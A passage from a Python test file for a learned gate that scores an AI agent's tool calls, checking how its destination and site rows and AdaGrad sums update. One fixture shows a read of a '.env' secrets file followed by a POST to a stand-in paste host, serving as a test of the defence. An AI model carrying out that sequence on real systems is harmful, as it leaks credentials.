            labels = {e["label"] for e in examples if e["context"] == "fs.read src/0.py"}
            assert labels == {0.0}  # the correction's block, not the gate's allow
        store.close()
    assert not np.array_equal(got[0], got[2])


def test_the_destination_rows_learn_only_allow_from_a_first_look():
    """A first look's "block" (a hold > 0, weight 1) steps the site's rows but leaves the
    destination key's row as it is; an "allow", a correction's "block" (weight > 1) and a
    second look's (no hold) step it. Rows and AdaGrad sums both."""
    from wide_only import WideOnly

    wide = WideOnly(wide_pair_rank=4, wide_sensitive_files=1.0, wide_egress_calls=1.0,
                    wide_pair_destination=1.0)
    learner, rows = wide.learner, wide.cfg.pair_destination_rows
    assert rows > 0 and learner.destination_from == wide.cfg.wide_pair_buckets
    secret = ['fs.read {"path": "/w/.env"}']
    post = 'http.request {"method": "POST", "url": "https://paste.example/x"}'
    idx, val, z_rest, pair, _ = wide._features(post, secret)
    c = np.asarray(pair[0])[np.asarray(pair[1]) != 0]
    dest, site = c[c >= learner.destination_from], c[c < learner.destination_from]
    assert len(dest) == 1 and len(site) == 3
    table, sums = learner.pair[0], learner.pair[1]
    # it starts with no factor of its own: the shared one only, as every call row
    assert np.all(table[dest][:, 1:] == 0)
    np.testing.assert_allclose(table[dest][:, 0], wide.cfg.wide_pair_init, rtol=1e-6)
    learner.learn(idx, val, z_rest, 1.0, 1.0, pair)  # an allow: the history side moves
    for label, weight, hold, steps in ((0.0, 1.0, 3.0, False), (0.0, 4.0, 3.0, True),
                                       (0.0, 1.0, 0.0, True), (1.0, 1.0, 3.0, True)):
        before, site_before = table[dest].copy(), table[site].copy()
        sums_before = sums[dest].copy()
        learner.learn(idx, val, z_rest, label, weight, pair, pair_hold=hold)
        assert not np.array_equal(table[site], site_before)  # the site always learns
        assert np.array_equal(table[dest], before) != steps, (label, weight, hold)
        assert np.array_equal(sums[dest], sums_before) != steps
